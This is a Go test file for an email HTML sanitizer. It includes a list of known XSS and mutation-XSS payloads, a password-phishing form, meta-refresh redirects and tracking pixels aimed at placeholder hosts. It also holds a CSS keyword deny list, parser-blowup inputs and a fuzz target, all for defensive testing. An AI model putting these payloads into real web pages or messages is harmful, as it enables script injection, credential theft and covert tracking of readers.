package message

import (
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// checkSafe parses HTML as a browser would and asserts that nothing is in it but what the lists allow, and that the parser found
// exactly the elements that were written, where they were written.
func checkSafe(t testing.TB, doc string, remote bool) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(doc))
	var stack []string
	for done := false; !done; {
		switch z.Next() {
		case html.ErrorToken:
			done = true
		case html.StartTagToken:
			if name, _ := z.TagName(); elements[string(name)] != void {
				stack = append(stack, string(name))
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(stack) == 0 || stack[len(stack)-1] != string(name) {
				t.Fatalf("</%s> closes %v in %.500q", name, stack, doc)
			}
			stack = stack[:len(stack)-1]
		case html.CommentToken, html.DoctypeToken:
			t.Fatalf("a comment in %.500q", doc)
		}
	}
	if len(stack) > 0 {
		t.Fatalf("%v are never closed in %.500q", stack, doc)
	}
	tree, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatalf("couldn't parse what was written: %v", err)
	}
	for n := range tree.Descendants() {
		if n.Type == html.ElementNode && n.Data != "html" && n.Data != "head" && n.Data != "body" {
			if elements[n.Data] == 0 || n.Namespace != "" {
				t.Fatalf("<%s> in %.500q", n.Data, doc)
			}
			for _, a := range n.Attr {
				checkAttr(t, n.Data, a, remote)
			}
		}
	}
	var out strings.Builder
	for n := range tree.Descendants() {
		if n.Type == html.ElementNode && n.Data == "body" {
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				if err := html.Render(&out, c); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
	if got, want := elementsOf(out.String()), elementsOf(doc); got != want {
		t.Fatalf("a parser repairs the tree:\nwrote %.2000s\nread  %.2000s", want, got)
	}
}

func elementsOf(doc string) string {
	z := html.NewTokenizer(strings.NewReader(doc))
	var out strings.Builder
	for {
		switch z.Next() {
		case html.ErrorToken:
			return out.String()
		case html.StartTagToken, html.SelfClosingTagToken:
			name, _ := z.TagName()
			out.WriteString("<" + string(name) + ">")
		case html.EndTagToken:
			name, _ := z.TagName()
			out.WriteString("</" + string(name) + ">")
		}
	}
}

func checkAttr(t testing.TB, tag string, a html.Attribute, remote bool) {
	t.Helper()
	val := strings.ReplaceAll(strings.ToLower(strings.TrimSpace(a.Val)), "text-transform:", "")
	switch {
	case strings.HasPrefix(a.Key, "on"):
		t.Fatalf("<%s %s>", tag, a.Key)
	case a.Key == "href" && tag == "a":
		if !strings.HasPrefix(val, "http:") && !strings.HasPrefix(val, "https:") && !strings.HasPrefix(val, "mailto:") && !strings.HasPrefix(val, "tel:") {
			t.Fatalf("a link to %q", a.Val)
		}
	case a.Key == "src" && tag == "img":
		if !strings.HasPrefix(val, "data:image/") && !strings.HasPrefix(val, "/cid/") && !(remote && strings.HasPrefix(val, "http")) {
			t.Fatalf("a picture from %q", a.Val)
		}
	case a.Key == "style":
		for _, bad := range []string{"url(", "position", "@", "expression", "\\", "/*", "behavior", "javascript", "z-index", "transform", "<", ">"} {
			if strings.Contains(val, bad) {
				t.Fatalf("style=%q", a.Val)
			}
		}
	case a.Key == "class":
		if tag != "span" || val != "link-host" && val != "link-host misleading" {
			t.Fatalf("class=%q on <%s>", a.Val, tag)
		}
	case a.Key == "target" || a.Key == "rel" || a.Key == "referrerpolicy" || a.Key == "loading":
	case attributes[a.Key] == nil:
		t.Fatalf("<%s %s=%q>", tag, a.Key, a.Val)
	}
}

// hostile is HTML that has got past filters of mail.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT/x>alert(1)//`, `<img src=x onerror=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#x0A;script:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`,
	`<form action=https://evil.example><input name=password><button>go</button></form>`, `<iframe src=https://evil.example></iframe>`, `<base href=https://evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/x.css"; p{background:url(https://t.example)}</style>`,
	`<div style="background:url(https://t.example/x.gif)">x</div>`, `<div style="background-image:\75rl(https://t.example)">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<div style="po/**/sition:absolute">x</div>`, `<div style="width:expression(alert(1))">x</div>`, `<div style="margin:-999px;color:red !important">x</div>`, `<div style='color:"red;position:fixed'>x</div>`,
	`<table background="https://t.example/x.gif"><tr><td>x`, `<img src="https://t.example/p.gif" width=1 height=1>`, `<img srcset="https://t.example/2x 2x">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<video poster=https://t.example/p.png src=https://t.example/v></video>`, `<object data=https://t.example></object>`, `<p id=x class=y name=z>x</p>`,
	`<b><i></b></i>`, `<p><div></p></div>`, `<table><tr><b>x<td>y</table>z`, `<table>x<p>y<tr><td><table><td>z</table>`, `<a href=https://a.example>1<a href=https://b.example>2</a>`, `</td></tr></table><li><li>`, `<ul><li>a<ul><li>b</ul><li>c`,
	`<p>a<p>b<h1>c<h2>d</h1>`, `<dl><dt>a<dd>b<dt>c`, `<table><caption>c<col><colgroup><col><td>x`, `<td>x`, `<table><colgroup>x<tr>`, `<hr><table><hr>`, `<plaintext>x`, `<xmp><script>x</script></xmp>`, `<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<<b>x`, `<a href="https://x.example/"onclick=alert(1)>x`, "<img src=\"ht\ntps://t.example\">", `<select><option><style></select><img src=x onerror=alert(1)></style>`,
	`<pre>` + "\n\n" + `x</pre>`, `<center><table><center><tr><td></center>x</table></center>`, `<font color=red><p>a</font>b</p>`, `<h1><b><h2>x`, `<address><li><address><li>`, `<table><thead><tr><th>x<tbody><td>y<tfoot><td>z<caption>w`,
}

func TestSafeHTMLHoldsAgainstHostileMail(t *testing.T) {
	for _, doc := range hostile {
		for _, remote := range []bool{false, true} {
			checkSafe(t, SafeHTML(doc, HTMLOptions{Remote: remote}).HTML, remote)
		}
	}
}

func TestSafeHTML(t *testing.T) {
	cid := func(id string) string { return map[string]string{"logo@x": "/cid/1.2"}[id] }
	const rel = ` target="_blank" rel="noopener noreferrer nofollow"`
	for _, c := range []struct {
		name, in, want      string
		opt                 HTMLOptions
		blocked, misleading int
	}{
		{"text", `Hello & <b>bye</b>`, `Hello &amp; <b>bye</b>`, HTMLOptions{}, 0, 0},
		{"link", `<a href="https://shop.example/x?a=1&b=2">offer</a>`, `<a href="https://shop.example/x?a=1&amp;b=2"` + rel + `>offer</a><span class="link-host"> [shop.example]</span>`, HTMLOptions{}, 0, 0},
		{"link that lies", `<a href="https://evil.example/">www.bank.example</a>`, `<a href="https://evil.example/"` + rel + `>www.bank.example</a><span class="link-host misleading"> [evil.example]</span>`, HTMLOptions{}, 0, 1},
		{"link with a user part", `<a href="https://bank.example@evil.example/">x</a>`, `<a href="https://bank.example@evil.example/"` + rel + `>x</a><span class="link-host"> [evil.example]</span>`, HTMLOptions{}, 0, 0},
		{"remote picture", `<img src="https://t.example/p.gif" alt="a cat">`, `<span>a cat</span>`, HTMLOptions{}, 1, 0},
		{"remote picture agreed", `<img src="https://t.example/p.gif" alt="a cat">`, `<img src="https://t.example/p.gif" referrerpolicy="no-referrer" loading="lazy" alt="a cat">`, HTMLOptions{Remote: true}, 0, 0},
		{"inline picture", `<img src="cid:logo@x">`, `<img src="/cid/1.2" referrerpolicy="no-referrer" loading="lazy">`, HTMLOptions{CID: cid}, 0, 0},
		{"inline picture that is missing", `<img src="cid:none" alt=n>`, `<span>n</span>`, HTMLOptions{CID: cid}, 0, 0},
		{"style", `<p style="color:#333; position:fixed; font: 12px 'Arial', sans-serif; background: #fff url(http://t.example/x) no-repeat">x</p>`,
			`<p style="color:#333;font:12px &#39;Arial&#39;, sans-serif;background-color:#fff">x</p>`, HTMLOptions{}, 1, 0},
		{"style sheet", `<style>p{background:url(http://t.example/x)}</style><p>x</p>`, `<p>x</p>`, HTMLOptions{}, 1, 0},
		{"open elements", `<table><tr><td><b>x`, `<table><tbody><tr><td><b>x</b></td></tr></tbody></table>`, HTMLOptions{}, 0, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := SafeHTML(c.in, c.opt)
			if got.HTML != c.want || got.RemoteBlocked != c.blocked || got.Misleading != c.misleading {
				t.Errorf("got %+v\nwant %s, %d blocked, %d misleading", got, c.want, c.blocked, c.misleading)
			}
		})
	}
}

// TestSafeHTMLIsLinear: each of these took some filter minutes.
func TestSafeHTMLIsLinear(t *testing.T) {
	for name, doc := range map[string]string{
		"deep":       strings.Repeat("<div>", 200_000),
		"fonts":      strings.Repeat("<font color=red>", 2000) + strings.Repeat("<p>x", 50_000),
		"tables":     strings.Repeat("<table><tr><td>", 50_000),
		"links":      strings.Repeat("<a href=https://x.example>", 40_000),
		"attributes": "<p " + strings.Repeat("style=color:red x=y ", 50_000) + ">",
		"open tags":  strings.Repeat("<", 1_000_000),
		"quotes":     strings.Repeat(`<p style="`, 100_000),
		"css":        `<p style="` + strings.Repeat("color:rgb(1,2,3);", 60_000) + `">`,
		"huge":       strings.Repeat("<b>x</b>", 1<<20),
	} {
		start := time.Now()
		safe := SafeHTML(doc, HTMLOptions{})
		if took := time.Since(start); took > 20*time.Second {
			t.Errorf("%s took %v", name, took)
		}
		if len(safe.HTML) > 100*len(doc) {
			t.Errorf("%s grew from %d to %d bytes", name, len(doc), len(safe.HTML))
		}
	}
}

func FuzzSafeHTML(f *testing.F) {
	for _, doc := range hostile {
		f.Add(doc, false)
	}
	f.Fuzz(func(t *testing.T, doc string, remote bool) {
		checkSafe(t, SafeHTML(doc, HTMLOptions{Remote: remote, CID: func(id string) string { return "/cid/" + id }}).HTML, remote)
	})
}
